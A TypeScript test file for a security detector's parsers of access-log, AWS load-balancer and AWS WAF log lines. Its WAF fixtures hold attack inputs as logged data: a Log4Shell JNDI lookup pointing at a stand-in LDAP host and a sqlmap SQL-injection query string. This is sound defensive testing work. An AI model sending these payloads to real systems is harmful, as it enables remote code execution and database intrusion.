import {
  createLineParser,
  detectFormat,
  hasSessionCookie,
  isIpLiteral,
  MAX_LINE_LENGTH,
  parseLine,
} from '../../src/detectors/parsers';
import type { LogFormat, LogRecord, ParseResult } from '../../src/detectors/types';

// Sample lines follow each format's documented layout; addresses are documentation ranges.
const COMBINED =
  '203.0.113.7 - alice [10/Oct/2023:13:55:36 -0700] "GET /search?q=shoes&page=2 HTTP/1.1" 200 2326 ' +
  '"https://shop.example.com/" "Mozilla/5.0 (X11; Linux x86_64) \\"Firefox\\"/118.0" "198.51.100.1" "rt=0.004"';
const COMBINED_V6 =
  '2001:db8:85a3::8a2e:370:7334 - - [01/Mar/2024:00:10:00 +0530] "POST /wp-login.php HTTP/2.0" 401 - "-" "-"';
const COMMON = '198.51.100.23 - - [31/Dec/2023:23:59:59 -0100] "HEAD /robots.txt HTTP/1.0" 404 0';
const ALB_OLD =
  'http 2016-08-10T22:08:42.945958Z app/my-loadbalancer/50dc6c495c0c9188 198.51.100.39:2817 10.0.0.1:80 ' +
  '0.000 0.001 0.000 200 200 34 366 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ' +
  'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067 ' +
  '"Root=1-58337262-36d228ad5d99923122bbe354"';
const ALB_NEW =
  'h2 2024-03-15T09:41:07.654321Z app/prod-alb/7c1b2d3e4f5a6b7c [2001:db8:4006:812::200e]:51234 ' +
  '10.0.12.34:8080 0.001 0.045 0.000 403 403 512 1024 ' +
  '"POST https://api.example.com:443/v1/login?next=%2Fadmin HTTP/2.0" "python-requests/2.31.0" ' +
  'ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/api/01 ' +
  '"Root=1-65f417e3-0a1b2c3d4e5f60718293a4b5" "api.example.com" ' +
  '"arn:aws:acm:eu-west-1:123456789012:certificate/0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b" 10 ' +
  '2024-03-15T09:41:07.608000Z "waf,authenticate,forward" "-" "-" "10.0.12.34:8080" "403" "-" "-" ' +
  'TID_0a1b2c3d4e5f6071 "-" "-" "-"';
// WAF fields every sample shares.
const WAF_ENVELOPE =
  '"formatVersion":1,"webaclId":"arn:aws:wafv2:us-east-1:123456789012:regional/webacl/shop/3b5c7d9e",' +
  '"terminatingRuleMatchDetails":[],"httpSourceName":"ALB","httpSourceId":"123456789012-app/prod-alb/7c1b2d",' +
  '"rateBasedRuleList":[],"requestHeadersInserted":null,"responseCodeSent":null';
// The SQLi group's action is overridden to Count: its logged terminatingRule ended nothing.
const SQLI_GROUP_COUNTED =
  '{"ruleGroupId":"AWS#AWSManagedRulesSQLiRuleSet","terminatingRule":{"ruleId":"SQLi_QUERYARGUMENTS",' +
  '"action":"BLOCK","ruleMatchDetails":null},"nonTerminatingMatchingRules":[],"excludedRules":null}';
const WAF_COUNTED_SQLI =
  `{"timestamp":1696946136123,${WAF_ENVELOPE},"terminatingRuleId":"Default_Action",` +
  '"terminatingRuleType":"REGULAR","action":"ALLOW","ruleGroupList":[{"ruleGroupId":' +
  '"AWS#AWSManagedRulesCommonRuleSet","terminatingRule":null,"nonTerminatingMatchingRules":[],' +
  `"excludedRules":null},${SQLI_GROUP_COUNTED}],"nonTerminatingMatchingRules":[{"ruleId":` +
  '"AWS-AWSManagedRulesSQLiRuleSet","action":"COUNT","ruleMatchDetails":[]}],"httpRequest":{' +
  '"clientIp":"203.0.113.77","country":"NL","headers":[{"name":"Host","value":"shop.example.com"},' +
  '{"name":"User-Agent","value":"sqlmap/1.7.2#stable (https://sqlmap.org)"},{"name":"Cookie",' +
  '"value":"JSESSIONID=8F3A2B9C; theme=dark"}],"uri":"/products","args":"id=1%27%20OR%20%271%27%3D%271",' +
  '"httpVersion":"HTTP/1.1","httpMethod":"GET","requestId":"1-65f417e3-3b4c5d6e7f8091a2b3c4d5e6"},' +
  '"labels":[{"name":"awswaf:managed:aws:sql-database:SQLi_QueryArguments"}]}';
const BLOCKING_GROUP = 'AWS-AWSManagedRulesKnownBadInputsRuleSet';
const WAF_BLOCKED =
  `{"timestamp":1710495667654,${WAF_ENVELOPE},"terminatingRuleId":"${BLOCKING_GROUP}",` +
  '"terminatingRuleType":"MANAGED_RULE_GROUP","action":"BLOCK","ruleGroupList":[{"ruleGroupId":' +
  '"AWS#AWSManagedRulesCommonRuleSet","terminatingRule":null,"nonTerminatingMatchingRules":[{"ruleId":' +
  '"SizeRestrictions_QUERYSTRING","action":"COUNT","overriddenAction":"BLOCK","ruleMatchDetails":[]}],' +
  '"excludedRules":null},{"ruleGroupId":"AWS#AWSManagedRulesKnownBadInputsRuleSet","terminatingRule":' +
  '{"ruleId":"Log4JRCE_HEADER","action":"BLOCK","ruleMatchDetails":null},"nonTerminatingMatchingRules":[],' +
  '"excludedRules":null}],"nonTerminatingMatchingRules":[],"httpRequest":{"clientIp":"2001:db8:dead:beef::1",' +
  '"country":"US","headers":[{"name":"host","value":"api.example.com"},{"name":"user-agent",' +
  '"value":"${jndi:ldap://203.0.113.9:1389/a}"},{"name":"Authorization","value":"Bearer eyJhbGciOi.e30.x"}],' +
  '"uri":"/","args":"","httpVersion":"HTTP/2.0","httpMethod":"GET","requestId":"1-65f417e3-0a1b2c3d"},' +
  '"labels":[{"name":"awswaf:managed:aws:core-rule-set:SizeRestrictions_QueryString"},' +
  '{"name":"awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"}]}';

const FORMATS = ['combined', 'alb', 'aws-waf'] as const;
const [C, L, W] = FORMATS;
const reason = (result: ParseResult): string => (result.ok ? 'ok' : result.reason);
/** The record of a line that must parse; fails the test with the skip reason otherwise. */
const record = (line: string, format: LogFormat): LogRecord => {
  const result = parseLine(line, format);
  if (result.ok) return result.record;
  throw new Error(`expected a record, got ${result.reason}`);
};
const clf = (addr: string, time: string, req: string): string => `${addr} - - [${time}] ${req} 400 1 "-" "-"`;
const [A, T, R] = ['203.0.113.9', '10/Oct/2023:13:55:36 -0700', '"GET / HTTP/1.1"'];
let seed = 42; // for `random`: deterministic pseudo-random integers in [0, n)
const random = (n: number): number => (seed = (seed * 1103515245 + 12345) % 2 ** 31) % n;

describe('combined format', () => {
  it('reads every field, unescaping quotes and ignoring fields appended after the user agent', () => {
    const ua = 'Mozilla/5.0 (X11; Linux x86_64) "Firefox"/118.0';
    expect(record(COMBINED, C)).toStrictEqual({
      format: 'combined',
      at: Date.parse('2023-10-10T20:55:36Z'),
      source: '203.0.113.7',
      method: 'GET',
      uri: '/search?q=shoes&page=2',
      status: 200,
      userAgent: ua,
      headers: { referer: 'https://shop.example.com/', 'user-agent': ua },
      authenticated: true,
      user: 'alice',
    });
    // An IPv6 client, and no user, referer or user agent: those fields are left out.
    expect(record(COMBINED_V6, C)).toStrictEqual({
      format: 'combined',
      at: Date.parse('2024-02-29T18:40:00Z'), // +0530, back across a leap day
      source: '2001:db8:85a3::8a2e:370:7334',
      method: 'POST',
      uri: '/wp-login.php',
      status: 401,
      headers: {},
      authenticated: false,
    });
  });

  it('accepts the common format, and decodes nginx \\xHH escapes in the request as UTF-8', () => {
    const r = record(COMMON, 'combined');
    expect(r).toMatchObject({ source: '198.51.100.23', method: 'HEAD', uri: '/robots.txt', status: 404 });
    expect(r.at).toBe(Date.parse('2024-01-01T00:59:59Z'));
    const escaped = COMMON.replace('/robots.txt', '/q=\\x22><b>\\xE2\\x9C\\x93');
    expect(record(escaped, 'combined').uri).toBe('/q="><b>✓');
  });
});

describe('ALB format', () => {
  it('reads old and new lines, keeping only path and query of the absolute request URL', () => {
    expect(record(ALB_OLD, 'alb')).toStrictEqual({
      format: 'alb',
      at: Date.parse('2016-08-10T22:08:42.945Z'),
      source: '198.51.100.39',
      method: 'GET',
      uri: '/',
      status: 200,
      userAgent: 'curl/7.46.0',
      headers: { host: 'www.example.com', 'user-agent': 'curl/7.46.0' },
      authenticated: false,
    });
    // A newer line: more trailing fields, a bracketed IPv6 client.
    expect(record(ALB_NEW, 'alb')).toMatchObject({
      source: '2001:db8:4006:812::200e',
      at: Date.parse('2024-03-15T09:41:07.654Z'),
      method: 'POST',
      uri: '/v1/login?next=%2Fadmin',
      status: 403,
      userAgent: 'python-requests/2.31.0',
      authenticated: true, // `authenticate,forward`: the load balancer's own login let it through
    });
    // Unbracketed, the port is the last group; `-` for a status never sent.
    const line = ALB_OLD.replace('198.51.100.39:2817', '2001:db8::a1:51234').replace(' 200 200 ', ' - - ');
    expect(record(line, 'alb').source).toBe('2001:db8::a1');
    expect(record(line, 'alb')).not.toHaveProperty('status');
  });
});

describe('AWS WAF format', () => {
  it('reads a request that a SQLi rule group in Count mode matched, with its labels', () => {
    const ua = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
    expect(record(WAF_COUNTED_SQLI, 'aws-waf')).toEqual({
      format: 'aws-waf',
      at: 1696946136123,
      source: '203.0.113.77',
      method: 'GET',
      uri: '/products?id=1%27%20OR%20%271%27%3D%271',
      userAgent: ua,
      headers: { host: 'shop.example.com', 'user-agent': ua, cookie: 'JSESSIONID=8F3A2B9C; theme=dark' },
      authenticated: true,
      upstream: [
        { rule: 'AWS-AWSManagedRulesSQLiRuleSet', action: 'COUNT', terminating: false },
        { rule: 'SQLi_QUERYARGUMENTS', action: 'BLOCK', terminating: false },
      ],
      labels: ['awswaf:managed:aws:sql-database:SQLi_QueryArguments'],
    });
  });

  it('marks the rule group that blocked, and its inner rule, as the terminating matches', () => {
    const r = record(WAF_BLOCKED, 'aws-waf');
    expect(r.upstream).toEqual([
      { rule: BLOCKING_GROUP, action: 'BLOCK', terminating: true },
      { rule: 'SizeRestrictions_QUERYSTRING', action: 'COUNT', terminating: false },
      { rule: 'Log4JRCE_HEADER', action: 'BLOCK', terminating: true },
    ]);
    expect(r).toMatchObject({ source: '2001:db8:dead:beef::1', uri: '/', authenticated: true });
    expect(r.labels).toEqual([
      'awswaf:managed:aws:core-rule-set:SizeRestrictions_QueryString',
      'awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header',
    ]);
    // A group counted before the blocking one stays non-terminating.
    const line = WAF_BLOCKED.replace('"ruleGroupList":[', `"ruleGroupList":[${SQLI_GROUP_COUNTED},`);
    const terminating = record(line, 'aws-waf').upstream?.filter((u) => u.terminating);
    expect(terminating?.map((u) => u.rule)).toEqual([BLOCKING_GROUP, 'Log4JRCE_HEADER']);
  });

  it('reads a block by a regular rule with its custom status; an allowing default action is no match', () => {
    const bare = { ...JSON.parse(WAF_COUNTED_SQLI), ruleGroupList: [], nonTerminatingMatchingRules: [] };
    expect(record(JSON.stringify(bare), 'aws-waf').upstream).toEqual([]);
    const custom = { terminatingRuleId: 'block-scanners', action: 'BLOCK', responseCodeSent: 429 };
    const r = record(JSON.stringify({ ...bare, ...custom }), 'aws-waf');
    expect(r.upstream).toEqual([{ rule: 'block-scanners', action: 'BLOCK', terminating: true }]);
    expect(r.status).toBe(429);
  });

  it('keeps client-chosen header names such as constructor and __proto__ as plain keys', () => {
    const headers = '"headers":[{"name":"Constructor","value":"x"},{"name":"__proto__","value":"y"}]';
    const r = record(WAF_COUNTED_SQLI.replace(/"headers":\[.*?\]/, headers), 'aws-waf');
    expect([r.headers['constructor'], r.headers['__proto__'], r.authenticated]).toEqual(['x', 'y', false]);
    expect(r).not.toHaveProperty('userAgent');
  });
});

describe('lines a format refuses', () => {
  it.each<[LogFormat, string, string, string]>([
    [C, 'TLS handshake bytes for a request', clf(A, T, '"\\x16\\x03\\x01\\x00\\xA5\\x01"'), 'malformed'],
    [C, '"-" (nothing read) for a request', clf(A, T, '"-"'), 'malformed'],
    [C, 'an SSH banner for a request', clf(A, T, '"SSH-2.0-Go"'), 'malformed'],
    [C, 'words without a path for a request', clf(A, T, '"HELLO WORLD"'), 'malformed'],
    [C, 'day 32', clf(A, '32/Oct/2023:13:55:36 -0700', R), 'malformed'],
    [C, '29 February of 2023', clf(A, '29/Feb/2023:13:55:36 -0700', R), 'malformed'],
    [C, 'an unknown month', clf(A, '10/Okt/2023:13:55:36 -0700', R), 'malformed'],
    [C, 'hour 25', clf(A, '10/Oct/2023:25:55:36 -0700', R), 'malformed'],
    [C, 'a zone name for an offset', clf(A, '10/Oct/2023:13:55:36 PDT', R), 'malformed'],
    [C, 'a line cut off in the request', COMBINED.slice(0, 70), 'malformed'],
    [C, 'a unix socket client', clf('unix:', T, R), 'bad-address'],
    [C, 'a hostname client', clf('www.example.com', T, R), 'bad-address'],
    [C, 'an octet over 255', clf('203.0.113.256', T, R), 'bad-address'],
    [C, 'a zone ID', clf('fe80::1%eth0', T, R), 'bad-address'],
    [C, 'a missing client', clf('-', T, R), 'bad-address'],
    [C, 'an ALB line', ALB_NEW, 'wrong-format'],
    [L, 'the "- url -" request', ALB_OLD.replace(/"GET [^"]*"/, '"- http://a:80- -"'), 'malformed'],
    [L, 'a truncated line', ALB_NEW.slice(0, 120), 'malformed'],
    [L, 'month 13', ALB_OLD.replace('2016-08-10T', '2016-13-10T'), 'malformed'],
    [L, 'a combined line', COMBINED, 'wrong-format'],
    [W, 'a JSON object that is not a WAF log', '{"eventVersion":"1.08","eventSource":"s3"}', 'malformed'],
    [W, 'a truncated WAF line', WAF_BLOCKED.slice(0, 300), 'malformed'],
    [W, 'an ISO timestamp', WAF_BLOCKED.replace('1710495667654', '"2024-03-15T09:41:07Z"'), 'malformed'],
    [W, 'a client that is no address', WAF_BLOCKED.replace('"2001:db8:dead:beef::1"', '"-"'), 'bad-address'],
    [W, 'a combined line', COMBINED, 'wrong-format'],
  ])('%s refuses %s', (format, _what, text, expected) => {
    expect(reason(parseLine(text, format))).toBe(expected);
  });

  it.each(FORMATS)('%s skips empty, garbage, binary and 1 MB lines, each with its reason', (format) => {
    expect([reason(parseLine('', format)), reason(parseLine(' \t ', format))]).toEqual(['empty', 'empty']);
    expect(reason(parseLine('lorem ipsum dolor sit amet [x] "y"', format))).toBe('malformed');
    const bytes = Buffer.from(Array.from({ length: 400 }, () => random(255) + 1));
    expect(reason(parseLine(bytes.toString('utf8'), format))).toBe('binary');
    expect(reason(parseLine(COMBINED.replace('GET', 'G\u0000T'), format))).toBe('binary');
    const huge = COMBINED + ' "' + 'a'.repeat(1024 * 1024) + '"';
    expect(huge.length).toBeGreaterThan(MAX_LINE_LENGTH);
    expect(reason(parseLine(huge, format))).toBe('too-long');
    expect(reason(createLineParser('auto')(huge))).toBe('too-long');
  });

  it('never throws, whatever prefix of a line or mutation of its characters it gets', () => {
    const reasons = new Set('ok empty malformed wrong-format too-long binary bad-address'.split(' '));
    const fresh = (l: string): ParseResult => createLineParser('auto')(l); // auto, before settling
    const parsers = [...FORMATS.map((f) => (l: string) => parseLine(l, f)), createLineParser('auto'), fresh];
    const seen = new Set<string>();
    for (const s of [COMBINED, COMBINED_V6, COMMON, ALB_OLD, ALB_NEW, WAF_COUNTED_SQLI, WAF_BLOCKED]) {
      for (let i = 0; i <= s.length + 200; i++) {
        const at = random(s.length); // past the prefixes: one character replaced
        const line =
          i <= s.length ? s.slice(0, i) : s.slice(0, at) + String.fromCharCode(random(128)) + s.slice(at + 1);
        for (const parse of parsers) seen.add(reason(parse(line)));
      }
    }
    expect([...seen].filter((r) => !reasons.has(r))).toEqual([]);
  });
});

describe('address and cookie checks', () => {
  it('finds session cookies by name only, and IP literals by syntax', () => {
    const yes = ['JSESSIONID=8F3A2B9C; theme=dark', 'theme=dark; __Host-SID=abc', 'connect.sid=s%3Aabc'];
    expect(yes.filter((c) => !hasSessionCookie(c))).toEqual([]);
    const no = ['theme=session; lang=token', 'mysessionid=1; auth_mode=none', ''];
    expect(no.filter(hasSessionCookie)).toEqual([]);
    const ips = ['203.0.113.7', '::', '::1', '2001:db8::1', '1:2:3:4:5:6:7:8', '::ffff:203.0.113.9'];
    expect(ips.filter((s) => !isIpLiteral(s))).toEqual([]);
    const notIps = ['', '1.2.3', '01.2.3.4', '1.2.3.4:80', '1::2::3', '1:2:3:4:5:6:7:8:9', '12345::1', ':1'];
    expect(notIps.filter(isIpLiteral)).toEqual([]);
  });
});

describe('format detection', () => {
  it('detectFormat recognises each format, goes with the majority, and admits defeat', () => {
    expect(detectFormat(['', COMBINED, COMBINED_V6, COMMON])).toBe('combined');
    expect(detectFormat([ALB_OLD, ALB_NEW])).toBe('alb');
    expect(detectFormat(['  ', WAF_COUNTED_SQLI, WAF_BLOCKED])).toBe('aws-waf');
    expect(detectFormat([ALB_OLD, COMBINED, COMMON, COMBINED_V6])).toBe('combined');
    expect(detectFormat(['hello', '', '{"a":1}', 'x'.repeat(100)])).toBeUndefined();
  });

  it('an auto parser keeps the first format a line settles; other formats are then wrong-format', () => {
    const parse = createLineParser('auto');
    expect(reason(parse('garbage before the log starts'))).toBe('malformed');
    const first = parse(WAF_BLOCKED);
    expect(first.ok && first.record.format).toBe('aws-waf');
    expect([reason(parse(COMBINED)), reason(parse(ALB_NEW))]).toEqual(['wrong-format', 'wrong-format']);
    const again = parse(WAF_COUNTED_SQLI);
    expect(again.ok && again.record.source).toBe('203.0.113.77');
    // Each parser settles on its own (one per file); a fixed-format one reads only its format.
    const [a, b, alb] = [createLineParser('auto'), createLineParser('auto'), createLineParser('alb')];
    expect([reason(a(COMBINED)), reason(b(ALB_OLD))]).toEqual(['ok', 'ok']);
    expect([reason(a(ALB_OLD)), reason(b(COMBINED))]).toEqual(['wrong-format', 'wrong-format']);
    expect([reason(alb(ALB_NEW)), reason(alb(COMBINED))]).toEqual(['ok', 'wrong-format']);
  });
});
